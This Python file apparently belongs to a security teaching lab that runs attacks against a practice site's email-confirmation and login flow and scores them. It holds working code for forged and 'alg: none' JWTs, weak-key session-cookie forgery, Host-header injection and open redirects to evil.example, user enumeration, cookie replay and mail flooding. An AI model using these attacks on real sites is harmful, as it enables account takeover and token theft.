"""The attacks of lesson 08: each sends requests to a running site and reads mails."""

import hmac
import json
import re
import time
from collections.abc import Callable
from statistics import median
from urllib.parse import urlencode

from confirmlab.base.errors import KitError
from confirmlab.mail.inbox import Inbox
from confirmlab.site.attacks.account import PASSWORD, Member, address, token_in
from confirmlab.site.attacks.forged_tokens import (
    FIVE_WORDS,
    bent,
    claims,
    encoded,
    opens,
    sessions,
    signs,
)
from confirmlab.site.attacks.scoreboard import Attempt, Scoreboard
from confirmlab.site.server import Site
from confirmlab.site.visitor import Visitor

Result = tuple[bool, str]  # whether the attack got in, and what was seen
Attack = Callable[[Site, Inbox], Result]

ATTACKS: dict[str, tuple[str, Attack]] = {}  # name -> what it tries, in the order of the lesson

_SAFE_POLICIES = {"no-referrer", "same-origin", "strict-origin", "origin"}
_ADVERT = "You won 40 grey geese"  # the name under which a stranger registers somebody else
_TOKEN = re.compile(r"eyJ[\w-]+\.[\w-]+\.[\w-]+")


def run(name: str, site: Site, inbox: Inbox) -> Attempt:
    """Run one attack on a site.

    Raises:
        KitError: there is no attack of that name.
    """
    if name not in ATTACKS:
        known = ", ".join(map(repr, ATTACKS))
        raise KitError(f"No attack is named {name!r}. attack() takes one of {known}.")
    return _tried(name, *ATTACKS[name], site, inbox)


def run_all(site: Site, inbox: Inbox) -> Scoreboard:
    """Run an honest member's visit and then every attack.

    If that visit cannot be made, no attack is tried: each would wait as long for its mail.
    """
    control = _tried("honest-member", "An honest member", _honest_member, site, inbox)
    if control.got_in is None:
        return Scoreboard((), control)
    return Scoreboard(tuple(run(name, site, inbox) for name in ATTACKS), control)


def _tried(name: str, title: str, attack: Attack, site: Site, inbox: Inbox) -> Attempt:
    try:
        got_in, evidence = attack(site, inbox)
    except KitError as error:  # no mail or no form: the app does not work at all
        got_in, evidence = None, str(error)
    return Attempt(name, title, got_in, evidence, attack.__doc__ or "")


def _honest_member(site: Site, inbox: Inbox) -> Result:
    """Confirm an honest member, since a broken app would hold off every attack."""
    ada = Member(site, inbox, "ada")
    ada.use(ada.token)
    if ada.confirmed:
        return True, "She is confirmed, as she should be."
    return False, "She is not confirmed: an app that lets nobody in is safe, and of no use."


def _attack(title: str) -> Callable[[Attack], Attack]:
    def listed(attack: Attack) -> Attack:
        ATTACKS[attack.__name__.replace("_", "-")] = (title, attack)
        return attack

    return listed


# Attacks of anybody: making or changing tokens.


@_attack("A token forged or altered by hand")
def forged_token(site: Site, inbox: Inbox) -> Result:
    """Change each part of one's own token, and sign it with other keys."""
    mallory = Member(site, inbox)
    for what, token in bent(mallory.token):
        page = mallory.use(token)
        if page.status >= 500:
            return True, f"{what} crashes the app: status {page.status}."
        if mallory.confirmed:
            return True, f"{what} confirms an account."
    return False, "Ten altered or home-made tokens were refused, and none crashed the app."


@_attack("The algorithm of the attacker's choice, or none")
def chosen_algorithm(site: Site, inbox: Inbox) -> Result:
    """Name another algorithm in the header, and sign with no key or not at all."""
    mallory = Member(site, inbox)
    payload = mallory.token.split(".")[1]
    for algorithm in ("none", "None", "nOnE", "HS256", "HS384", "RS256"):
        start = encoded(json.dumps({"alg": algorithm, "typ": "JWT"}).encode()) + "." + payload
        digest = {"HS256": "sha256", "HS384": "sha384"}.get(algorithm)
        signature = hmac.digest(b"", start.encode(), digest) if digest else b""
        page = mallory.use(f"{start}.{encoded(signature)}")
        if page.status >= 500:
            return True, f"A token that says {algorithm!r} crashes the app: status {page.status}."
        if mallory.confirmed:
            return True, f"A token that says {algorithm!r} confirms an account."
    return False, "Six headers were tried; the app takes its own algorithm and no other."


@_attack("A weak key, guessed at home from a token in one's own mail")
def weak_key(site: Site, inbox: Inbox) -> Result:
    """Try words as the key without asking the site, then sign a login as somebody else."""
    mallory = Member(site, inbox)
    name, cookie = next(iter(mallory.browser.cookies.items()))
    for word in FIVE_WORDS:
        if signs(word, mallory.token) or opens(word, cookie):
            ada = Member(site, inbox, "ada")
            ada.use(ada.token)
            number = str(claims(ada.token)["confirm_id"])  # numbers count up: no secret
            forged = sessions(word).dumps({"_user_id": number, "_fresh": True})
            landed = Visitor(site.url, headers={"Cookie": f"{name}={forged}"}).open("/profile")
            where = "With it, a login as any member can be signed; hers opens /profile."
            if landed.path != "/profile":
                where = "A login signed with it is refused: it lacks her account's own mark."
            return True, f"The key is {word!r}, found without one request. {where}"
    return False, "None of the five words is the key; a random key is on nobody's list."


# Attacks of members with their own mails.


@_attack("An old link, after a change of address")
def old_link(site: Site, inbox: Inbox) -> Result:
    """Change to a stranger's address, then confirm it with the link sent to the old address."""
    mallory = Member(site, inbox)
    mallory.use(mallory.token)
    stranger = address("stranger")
    mallory.move(stranger)
    if mallory.owns(stranger):
        return True, "A stranger's address counts as confirmed at once, without a mail."
    mallory.use(mallory.token)
    if mallory.owns(stranger):
        return True, "The old link confirms a stranger's address, without a mail to it."
    return False, "The new address waits for its own link; the old link is dead."


@_attack("A used link, used again")
def used_link(site: Site, inbox: Inbox) -> Result:
    """Use a link, change the address, change it back, and use the link again."""
    return _replayed(site, inbox, "", "The link from the first day confirms a second time.")


@_attack("A used link, spelled in another way")
def respelled_link(site: Site, inbox: Inbox) -> Result:
    """Reuse a used link whose token is spelled differently but decodes to the same claims."""
    return _replayed(site, inbox, "==", "With == at its end, the used token is as good as new.")


def _replayed(site: Site, inbox: Inbox, end: str, story: str) -> Result:
    mallory = Member(site, inbox)
    first, second, last = mallory.email, address("mallory"), inbox.latest
    mallory.use(mallory.token)
    mallory.move(second)
    if not mallory.owns(second):
        mallory.use(token_in(mallory.letter("Confirm", to=second, after=last)))
    if not mallory.owns(second):
        return False, "The address never changed, so there is nothing to bring back."
    mallory.move(first)
    if mallory.owns(first):
        return True, "Back at an old address, Mallory is confirmed without any mail."
    mallory.use(mallory.token + end)
    if mallory.owns(first):
        return True, story
    return False, "The link worked once, and never again."


@_attack("A token made for another purpose")
def other_purpose(site: Site, inbox: Inbox) -> Result:
    """Confirm an address with the token from a password reset mail."""
    mallory = Member(site, inbox)
    mallory.use(mallory.reset_token())
    if mallory.confirmed:
        return True, "The token from the password mail confirms an address."
    return False, "The token from the password mail confirms nothing."


# Attacks by machines that handle links and mails.


@_attack("A preview that opens the link (GET)")
def preview(site: Site, inbox: Inbox) -> Result:
    """Fetch the link as browsers do to load a page ahead of a click."""
    ada = Member(site, inbox, "ada")
    ada.browser.open(ada.path, headers={"Sec-Purpose": "prefetch;prerender"})
    if ada.confirmed:
        return True, "The account is confirmed, and nobody has clicked."
    return False, "Opening the link only shows a page; confirming takes a press of its button."


@_attack("A scanner that knocks at the link (HEAD)")
def scanner(site: Site, inbox: Inbox) -> Result:
    """Send a HEAD request to the link, as link scanners do."""
    ada = Member(site, inbox, "ada")
    ada.browser.head(ada.path)
    if ada.confirmed:
        return True, "A request for the headers alone confirmed the account."
    return False, "Asking for the headers changes nothing."


@_attack("A false host in a mail to a stranger")
def false_host(site: Site, inbox: Inbox) -> Result:
    """Register a stranger in a request that says Host: evil.example."""
    victim, last = address("victim"), inbox.latest
    visitor = Visitor(site.url, headers={"Host": "evil.example"})
    page = visitor.open("/auth/register")
    if page.status == 400:
        return False, "The app answers only to its own names: status 400, and no mail."
    visitor.submit(page, name="Victim", email=victim, password=PASSWORD)
    links = inbox.wait(to=victim, subject="Confirm", after=last).links
    if any("evil.example" in link for link in links):
        return True, "The mailed link leads to evil.example, and takes the token there."
    return False, "The mailed link leads to our own host, whatever the request said."


@_attack("A stranger's words in your mail")
def strangers_words(site: Site, inbox: Inbox) -> Result:
    """Register somebody else's address under a name that is an advertisement."""
    victim = address("victim")
    site.visitor().register(name=_ADVERT, email=victim, password=PASSWORD)
    Member(site, inbox, "last", log_in=False)  # when her mail is here, the others are
    mails = [mail for mail in inbox if victim in mail.to]
    for mail in mails:
        if _ADVERT in f"{mail.subject} {mail.text} {mail.html}":
            return True, f"The club writes to somebody who never asked: {_ADVERT!r}."
    return False, f"None of the {len(mails)} mails to the address repeats the name."


@_attack("Five mails for one mailbox")
def letter_bomb(site: Site, inbox: Inbox) -> Result:
    """Press the button of the waiting room five times in a row."""
    victim = Member(site, inbox, "victim")
    return _bombed(victim, [victim.ask_again] * 5)


@_attack("The same, with a new login for each mail")
def patient_letter_bomb(site: Site, inbox: Inbox) -> Result:
    """Press the button three times, logging in again without cookies before each press."""
    victim = Member(site, inbox, "victim")
    return _bombed(victim, [victim.log_in_anew, victim.ask_again] * 3)


@_attack("Mails for a stranger, requested without an account")
def letters_unasked(site: Site, inbox: Inbox) -> Result:
    """Register a stranger's address, and request a password reset for it, three times each."""
    victim = Member(site, inbox, "victim", log_in=False)
    steps = [victim.register, victim.forget_password] * 3
    return _bombed(victim, steps, most=2)  # one of each kind, since each kind has its own limit


def _bombed(victim: Member, steps: list[Callable[[], None]], most: int = 1) -> Result:
    before, presses = _letters(victim), len(steps) - steps.count(victim.log_in_anew)
    for step in steps:
        step()
    came = _letters(victim) - before
    counts = f"{presses} requests, {came or 'no'} mail{'' if came == 1 else 's'}"
    return came > most, f"{counts} in the mailbox of somebody who asked for none."


def _letters(victim: Member) -> int:
    # When the mail to one more member has arrived, all earlier mails have, too.
    Member(victim.site, victim.inbox, "last", log_in=False)
    return victim.letters()


# Attacks on other accounts.


@_attack("An account made before its owner comes")
def pre_hijack(site: Site, inbox: Inbox) -> Result:
    """Register Ada's address and stay logged in while she resets the password and confirms."""
    mallory = Member(site, inbox, "ada")
    ada, last = site.visitor(), inbox.latest
    mallory.forget_password()
    link = mallory.letter("password", after=last)
    ada.submit(ada.open(f"/auth/reset/{token_in(link)}"), password="a password of her own")
    ada.log_in(mallory.email, "a password of her own")
    ada.click(mallory.path)
    if mallory.confirmed:
        return True, "Ada has a new password and is confirmed; the stranger's old login works too."
    return False, "Ada's new password ended the stranger's login."


@_attack("A stolen cookie, used after the logout")
def replayed_cookie(site: Site, inbox: Inbox) -> Result:
    """Copy a member's cookies, and use them after she has logged out."""
    ada = Member(site, inbox, "ada")
    ada.use(ada.token)
    cookies = "; ".join(f"{name}={value}" for name, value in ada.browser.cookies.items())
    ada.browser.log_out()
    landed = Visitor(site.url, headers={"Cookie": cookies}).open("/profile")
    if landed.path == "/profile":
        return True, "Ada has logged out, and a copy of her cookie opens her profile."
    return False, "The logout ended the copy of the cookie, too."


@_attack("An address taken by moving there")
def squatter(site: Site, inbox: Inbox) -> Result:
    """Move to a stranger's address, so that the stranger cannot register with it."""
    mallory, victim = Member(site, inbox), address("victim")
    mallory.use(mallory.token)
    mallory.move(victim)
    site.visitor().register(name="Victim", email=victim, password=PASSWORD)
    Member(site, inbox, "last", log_in=False)  # when her mail is here, the others are
    if not any(victim in mail.to and "Welcome" in mail.subject for mail in inbox):
        return (
            True,
            "The owner of the address registers, and is told that it has an account already.",
        )
    return False, "An address that nobody has confirmed stays free for its owner."


# Information that the site gives away.


@_attack("A token that the browser passes on")
def referer(site: Site, inbox: Inbox) -> Result:
    """Look for a page with a token in its URL that may send it to other sites as Referer."""
    ada = Member(site, inbox, "ada")
    for browser, path in (
        (ada.browser, ada.path),
        (site.visitor(), f"/auth/reset/{ada.reset_token()}"),
    ):
        page = browser.open(path)
        policy = (page.header("Referrer-Policy") or "").lower()
        if _TOKEN.search(page.path) and policy not in _SAFE_POLICIES:
            return True, "A page with a token in its address comes without a Referrer-Policy."
    return False, "No page with a token in its address lets the browser pass it on."


@_attack("A token in the log")
def log_reader(site: Site, inbox: Inbox) -> Result:
    """Look for the token in the site's log, as anybody with access to it can."""
    ada = Member(site, inbox, "ada")
    ada.use(ada.token)
    lines = [line for line in site.log(200).splitlines() if ada.token in line]
    if lines:
        return True, f"The log holds the whole token: {lines[0].replace(ada.token, 'eyJ...')}"
    return False, "No line of the log holds the token."


@_attack("A login that leads away")
def open_redirect(site: Site, inbox: Inbox) -> Result:
    """Send a member to the login page by a link that names another site as the next page."""
    ada = Member(site, inbox, "ada", log_in=False)
    for target in ("https://evil.example/", "//evil.example/", "/\\evil.example/"):
        visitor = site.visitor()
        page = visitor.open(f"/auth/login?{urlencode({'next': target})}")
        landed = visitor.submit(page, email=ada.email, password=PASSWORD)
        if "evil.example" in landed.url:
            return True, f"After the login, next={target} leads the member away."
    return False, "After the login, three links of that kind led home."


@_attack("Asking the site who is registered")
def who_is_there(site: Site, inbox: Inbox) -> Result:
    """Register, and ask for a new password, with an address that is known and one that is not."""
    ada = Member(site, inbox, "ada", log_in=False)
    for path in ("/auth/register", "/auth/forgotten"):
        known, unknown = _answer(site, path, ada.email), _answer(site, path, address("nobody"))
        if known != unknown:
            return True, f"{path} answers a known address differently: {known[-1]}"
    return False, "Known and unknown addresses get the same answer."


@_attack("The time that an answer takes")
def slow_answer(site: Site, inbox: Inbox) -> Result:
    """Try a wrong password with a member's address and with unknown ones, and compare the times."""
    ada = Member(site, inbox, "ada", log_in=False)
    visitor = site.visitor()
    times: tuple[list[float], list[float]] = ([], [])
    page = visitor.open("/auth/login")
    for _ in range(5):
        for taken, email in zip(times, (ada.email, address("nobody")), strict=True):
            begun = time.perf_counter()
            visitor.submit(page, email=email, password="no feathers at all")
            taken.append(1000 * (time.perf_counter() - begun))
    known, unknown = map(median, times)
    if known > 2 * unknown and known - unknown > 20:
        return True, f"A member's address takes {known:.0f} ms, an unknown one {unknown:.0f} ms."
    return False, "A wrong password takes as long with an unknown address as with a member's."


def _answer(site: Site, path: str, email: str) -> tuple[int, str, str]:
    """Submit an address to the form at `path`; return status, path and text of the response.

    The text is that of the flash messages, or of the page if there are none.
    """
    visitor = site.visitor()
    page = visitor.open(path)
    fields = {"name": "Ada", "email": email, "password": PASSWORD}
    page = visitor.submit(page, **{k: v for k, v in fields.items() if k in page.form().names})
    return page.status, page.path, " ".join(page.flashes) or page.text
